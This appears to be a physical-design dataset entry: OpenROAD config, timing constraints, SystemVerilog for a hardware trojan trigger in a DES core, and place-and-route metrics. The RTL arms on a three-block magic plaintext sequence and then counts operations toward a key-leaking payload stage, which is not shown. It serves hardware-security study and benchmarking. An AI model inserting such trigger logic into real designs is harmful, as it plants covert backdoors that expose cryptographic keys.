File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_trigger_gen
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_trigger_gen_magic_seq_detect.sv /design/src/rtl/trojan_trigger_gen.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 0
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_MARGIN = 4
export CORE_UTILIZATION = 26
export CTS_CLUSTER_SIZE = 25
export DETAILED_ROUTE_END_ITERATION = 16
export PLACE_DENSITY = 0.78
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 2.3 [get_ports clk]
set_input_delay 0.345 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.345 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
File: src/rtl/trojan_pkg.sv
// Shared definitions for the trigger generator and the downstream key-payload stage.
package trojan_pkg;

    typedef enum logic [1:0] {
        IDLE  = 2'd0,
        SEQ1  = 2'd1,
        SEQ2  = 2'd2,
        ARMED = 2'd3
    } seq_state_e;

    localparam logic [63:0] MAGIC0_DEFAULT = 64'h0123456789ABCDEF;
    localparam logic [63:0] MAGIC1_DEFAULT = 64'hFEDCBA9876543210;
    localparam logic [63:0] MAGIC2_DEFAULT = 64'hDEADBEEFCAFEF00D;

    localparam int unsigned TRIGGER_W = 32;

    // Low-nibble value of trigger at which the payload stage activates.
    localparam logic [3:0] PAYLOAD_ACT_NIBBLE = 4'hF;

endpackage

File: src/rtl/trojan_trigger_gen_magic_seq_detect.sv
// Watches accepted plaintext blocks for the three-block magic sequence and
// latches armed once it has been seen in order.
module magic_seq_detect
    import trojan_pkg::*;
#(
    parameter logic [63:0] MAGIC0 = MAGIC0_DEFAULT,
    parameter logic [63:0] MAGIC1 = MAGIC1_DEFAULT,
    parameter logic [63:0] MAGIC2 = MAGIC2_DEFAULT
) (
    input  logic        clk,
    input  logic        rst,
    input  logic        accept,
    input  logic [63:0] desIn,
    output logic        armed
);

    seq_state_e state_q;
    seq_state_e state_d;
    logic       hit0;
    logic       hit1;
    logic       hit2;

    assign hit0 = (desIn == MAGIC0);
    assign hit1 = (desIn == MAGIC1);
    assign hit2 = (desIn == MAGIC2);

    always_ff @(posedge clk) begin
        if (rst) begin
            state_q <= IDLE;
        end else begin
            state_q <= state_d;
        end
    end

    // A mismatch that is itself MAGIC0 restarts the sequence rather than dropping it.
    always_comb begin
        state_d = state_q;
        if (accept) begin
            unique case (state_q)
                IDLE:    state_d = hit0 ? SEQ1 : IDLE;
                SEQ1:    state_d = hit1 ? SEQ2 : (hit0 ? SEQ1 : IDLE);
                SEQ2:    state_d = hit2 ? ARMED : (hit0 ? SEQ1 : IDLE);
                default: state_d = ARMED;
            endcase
        end
    end

    always_comb begin
        armed = (state_q == ARMED);
    end

endmodule

File: src/rtl/trojan_trigger_gen.sv
// Trigger stage: tracks the outstanding DES operation and, once armed,
// counts completed operations into the trigger word for the payload stage.
module trojan_trigger_gen
    import trojan_pkg::*;
#(
    parameter logic [63:0] MAGIC0 = MAGIC0_DEFAULT,
    parameter logic [63:0] MAGIC1 = MAGIC1_DEFAULT,
    parameter logic [63:0] MAGIC2 = MAGIC2_DEFAULT
) (
    input  logic                 clk,
    input  logic                 rst,
    input  logic                 start,
    input  logic [63:0]          desIn,
    input  logic                 done,
    output logic [TRIGGER_W-1:0] trigger,
    output logic                 armed,
    output logic                 busy
);

    logic                 busy_q;
    logic                 busy_d;
    logic [TRIGGER_W-1:0] trigger_q;
    logic [TRIGGER_W-1:0] trigger_d;
    logic                 accept;
    logic                 count_en;

    // A start lands either on an idle core or in the same cycle the current one finishes.
    assign accept   = start & (~busy_q | done);
    assign count_en = armed & busy_q & done;

    magic_seq_detect #(
        .MAGIC0 (MAGIC0),
        .MAGIC1 (MAGIC1),
        .MAGIC2 (MAGIC2)
    ) u_seq_detect (
        .clk    (clk),
        .rst    (rst),
        .accept (accept),
        .desIn  (desIn),
        .armed  (armed)
    );

    always_comb begin
        busy_d = busy_q;
        if (accept) begin
            busy_d = 1'b1;
        end else if (done) begin
            busy_d = 1'b0;
        end
    end

    always_comb begin
        trigger_d = trigger_q + {{(TRIGGER_W-1){1'b0}}, count_en};
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            busy_q    <= 1'b0;
            trigger_q <= '0;
        end else begin
            busy_q    <= busy_d;
            trigger_q <= trigger_d;
        end
    end

    assign busy    = busy_q;
    assign trigger = trigger_q;

endmodule

==> metrics.md <==
| Metric | Value |
|---|---|
| Status | `completed` |
| Cell area after synthesis | `2040 µm²` |
| CTS Buf Count | `5` |
| Max cap viols | `0` |
| Syn nets | `306` |
| Floorplan core area | `7690 µm²` |
| Die Width | `roughly 97 µm` |
| RePlAce Congestion | `0.779` |
| Post CTS Setup Buffer Count | `0` |
| Final WL | `~6500 µm` |
| Synth-to-layout area growth | `65.6%` |
| DRC errors left | `0` |
| Initial Util | `0.266` |
| Total power | `between 0.001 and 0.0015 W` |
| Fin util | `0.440` |
| Via Count | `2,303` |
| Final instance count without filler cells | `453` |
| Final #Nets | `422` |
| Post-synth EDFFs | `0` |
| CTS Sinks | `35` |
| ANT nets after route | `0` |
| First-pass GRT wire length | `10,700 µm` |
| Initial drt markers | `82` |
| Largest net degree at the start of global routing | `17` |
| Final hold viol count | `0` |
| LEAKAGE | `1.14 nW` |
| RSZ-0062 raised after global routing | `yes` |
| CTS tree | `done` |
| Via/cell ratio | `5.08` |
| Root Buffer | `clkbuf_8` |
| Tightest Pin Transition | `431 ps` |
| CP Capture Type | `register` |
| Share of cells above drive strength 1 | `0.125` |
| Max IR drop VDD | `0.234 mV` |
| FFs w/ async S/R, synth | `0` |
| Synth Instances | `235` |
| Synth cell types | `46` |
| Fin worst setup slack | `108 ps` |
| Final-report setup violation count | `0` |
| DP HPWL | `approximately 5300 µm` |
| Worst skew pair latency | `between 200 and 300 ps` |
| Ys Warns | `6` |
| Seq/Total Area, Yosys | `0.343` |
| Main flop type after synthesis | `dfxtp_1` |
| PwrDens | `around 360 nW/µm²` |
| Worst setup path category | `in -> reg` |
| Placed cells | `446` |
| I/O pin cnt | `102` |
| Dpl ws | `-308 ps` |
| Initial antenna violation count | `0` |
| Fin crit period | `2190 ps` |
| Drt pass-1 iters | `4` |
| Slew headroom | `0.713` |
| CTS Buffer Depth | `2` |
| Gr usage total | `0.135` |
| Worst Hold Class | `reg -> reg` |
| Setup Skew | `between 4 and 5 ps` |
| FF+latch count, synth | `35` |
| Area post-placement | `3270 µm²` |
| Max FO, Critical Path | `4` |
| Cell Rows | `32` |
| Final instance area | `3380 µm²` |
| Antenna diodes | `0` |
| Vias in the first global route | `2,330` |
| Commonest cells after routing, fill and taps aside | `clkdlybuf4s50_1, dfxtp_1, a21oi_1, buf_4` |
| Final Max Slew Viols | `0` |
| Fmax | `between 400 and 500 MHz` |
| Syn avg cell area | `8.69 µm²` |
| Die area | `between 9000 and 10,000 µm²` |
| Worst EP arrival | `2360 ps` |
| Overflow after GRT | `0` |
| Critical Path RT | `2460 ps` |
| Period utilisation layout | `0.953` |
| Most common cell after layout, fill and taps aside | `clkdlybuf4s50_1` |
| # port buffers | `101` |
| H-tree depth | `2` |
| Clk slew on worst S/H paths | `70 ps` |
| Hold buffer count at CTS | `0` |
| Crit path launch type | `primary input` |
| Wire length per cell | `14.3 µm` |
| Die span in y | `96.7 µm` |
-- logic make-up after synthesis --
logic type               synth area share
AO/OA/AOI/OAI                       0.130
multiplexers                      0.00551
flip-flops                          0.343
adder cells (fa/ha/maj)            0.0184
AND/OR/NAND/NOR                     0.419
XOR/XNOR                           0.0514
buffers and inverters              0.0325
-- final cells by class --
class,count,area (µm²)
well taps,102,128
multi-input cells,187,1320
flip-flops and latches,35,701
clock inverters,1,5.00
fillers,777,4300
inverters,4,15.0
repair buffers,118,1140
clock buffers,6,82.6
-- report_power, final --
group	leakage [nW]	switching [W]	internal, W
clock	0.0470	0.000217	0.000235
sequential	0.282	0.00000101	0.000607
combinational	0.808	0.0000510	0.000122
-- final timing paths --
kind,start,endpoint,slack [ps],depth (start not counted)
worst max-delay path,done,trigger[24]$_SDFF_PP0_,110,9
worst min-delay path,trigger[19]$_SDFF_PP0_,trigger[19]$_SDFF_PP0_,500,2
worst max register to register,u_seq_detect/state_q[0]$_SDFFE_PP0P_,trigger[24]$_SDFF_PP0_,160,9
worst min register to register,trigger[19]$_SDFF_PP0_,trigger[19]$_SDFF_PP0_,500,2
-- worst max-delay path, stage by stage --
cell	delay (ps)
clkdlybuf4s50_1	480
and3_1	190
ha_2	180
ha_2	170
and4_4	280
nand4_1	130
buf_4	180
o31ai_1	310
a21oi_2	90
-- layer usage --
| metal | share of wire | GRT usage |
|---|---|---|
| met1 | 0.43 | 0.160 |
| met2 | 0.48 | 0.236 |
| met3 | 0.073 | 0.0418 |
| met4 | 0.017 | 0.0389 |
| met5 | 0 | 0 |
-- registers in the layout (all words and copies together), names as in the netlist --
register              cells
busy                      1
trigger                  32
u_seq_detect/state_q      2
-- cells in the mapped netlist, drive strengths merged, types with 2 or more instances --
| cell type | instances | area [µm²] |
|---|---|---|
| dfxtp | 35 | 701 |
| nor4 | 8 | 62.6 |
| nor4bb | 4 | 40.0 |
| inv | 4 | 15.0 |
| clkbuf | 5 | 18.8 |
| nor2b | 3 | 18.8 |
| nand3 | 13 | 65.1 |
| or3 | 6 | 37.5 |
| and4bb | 2 | 25.0 |
| and4 | 7 | 62.6 |
| nand4b | 5 | 43.8 |
| nand4 | 18 | 140 |
| a21oi | 18 | 90.1 |
| and3 | 6 | 42.5 |
| o31ai | 10 | 75.1 |
| xor2 | 11 | 96.3 |
| nor2 | 15 | 56.3 |
| nor4b | 6 | 52.6 |
| buf | 4 | 32.5 |
| nand2 | 13 | 48.8 |
| o21ai | 9 | 48.8 |
| ha | 3 | 37.5 |
| or4 | 11 | 82.6 |
| nor3 | 4 | 25.0 |
| and2 | 3 | 18.8 |
-- through the flow --
| stage | hold slack (ps) | setup TNS, ps |
|---|---|---|
| 2_1_floorplan | 414 | -0.360 |
| 3_3_place_gp | 478 | -1610 |
| 3_5_place_dp | 481 | -1980 |
| 4_1_cts | 495 | 0 |
| 5_1_grt | 508 | -13.5 |
| 6_report | 497 | 0 |
-- repair_timing --
item,CTS,global route
pin swaps,0,3
endpoints found under the setup margin,3,5
gates resized for setup,1,5
hold endpoints to repair,0,0
No activity file was read; power rests on OpenSTA's default activity.
